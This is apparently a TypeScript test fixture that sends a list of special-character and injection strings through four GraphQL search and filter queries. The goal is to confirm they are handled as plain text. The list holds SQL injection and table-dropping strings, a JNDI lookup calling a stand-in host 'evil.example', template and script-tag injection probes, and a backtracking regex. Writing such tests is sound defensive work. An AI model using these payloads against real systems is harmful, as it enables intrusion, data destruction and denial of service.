import { asking, type Attack } from "../attack.js";

/** Texts that mean something to SQL, LIKE, full-text search, regular expressions or a shell; here they are words like any other. */
const TEXTS: readonly string[] = [
  "'",
  "''",
  "' OR ''='",
  "'; DROP TABLE theme; --",
  '"',
  "\\",
  "\\'",
  "$1",
  "$$",
  "%",
  "_",
  "%_%_%_%_%_%_%_%_%_%_%_%_%_%_%_%",
  "\\%",
  "&",
  "|",
  "!",
  "!!!!!!!!",
  "( ( (",
  "a & b | !c",
  "a <-> b",
  "a:*",
  ":*:*:A",
  "<<>>",
  '"a b" -c or d',
  "or or or and not",
  ".*",
  "(a+)+$",
  "[[:alpha:]]",
  "(?i)",
  "^",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "\u202e\u200b\u00ad",
  "\ufeff",
  "😀👩‍👩‍👧‍👦",
  "e\u0301\u0301\u0301".repeat(50),
  "ß".repeat(300),
  "İıſK",
  " ",
  "\n\t\r",
  "-",
  "a".repeat(2_000),
  "a ".repeat(2_000),
  "aä".repeat(10_000),
  "a b ".repeat(20_000),
  "(".repeat(5_000),
  "%".repeat(5_000),
  "_".repeat(50_000),
  "x".repeat(150_000),
];

const WAYS: Readonly<Record<string, string>> = {
  search: "query ($t: String!) { search(text: $t, first: 5) { totalCount nodes { label } } }",
  contains: "query ($t: String) { measures(where: { title: { contains: $t } }, first: 5) { nodes { title } } }",
  matches: "query ($t: String) { measures(where: { title: { matches: $t } }, first: 5) { nodes { title } } }",
  startsWith: "query ($t: String) { measures(where: { title: { startsWith: $t } }, first: 5) { nodes { title } } }",
};

/** Every one of these texts in every way in which a text is looked for. */
export const TEXTS_SOUGHT: readonly Attack[] = Object.entries(WAYS).flatMap(([way, query]) =>
  TEXTS.map((text) =>
    asking(
      `${way}: ${JSON.stringify(text).slice(0, 30)} (${text.length})`,
      { query, variables: { t: text } },
      "harmless",
    ),
  ),
);
